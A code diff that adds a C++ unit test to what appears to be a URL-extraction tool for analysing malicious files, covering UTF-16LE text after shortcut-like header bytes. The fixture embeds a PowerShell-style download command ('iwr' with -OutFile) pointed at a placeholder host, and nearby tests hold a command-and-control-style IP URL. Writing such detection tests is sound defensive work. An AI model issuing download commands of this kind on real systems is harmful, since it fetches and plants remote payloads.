@@ -46,6 +46,17 @@ TEST(UrlExtract, CaretObfuscation) {
             (std::vector<std::string>{"http://193.42.36.245/cc.html"}));
 }
 
+TEST(UrlExtract, Utf16LittleEndianText) {
+  std::string wide;
+  for (char c : std::string("-c iwr http://a.example/x/ -OutFile")) {
+    wide += c;
+    wide += '\0';
+  }
+  EXPECT_EQ(urls(std::string("\x4c\0\0\0\x01\x14", 6) + wide + std::string("\xff\0a\0", 4)),
+            (std::vector<std::string>{"http://a.example/x/"}));
+  EXPECT_EQ(collapse_utf16le(std::string("a\0b\0c\0", 6)), std::string("a\0b\0c\0", 6));  // too short
+}
+
 TEST(UrlExtract, NumericHosts) {
   EXPECT_EQ(numeric_host_to_ipv4("0xb907d607"), "185.7.214.7");
   EXPECT_EQ(numeric_host_to_ipv4("3104298503"), "185.7.214.7");
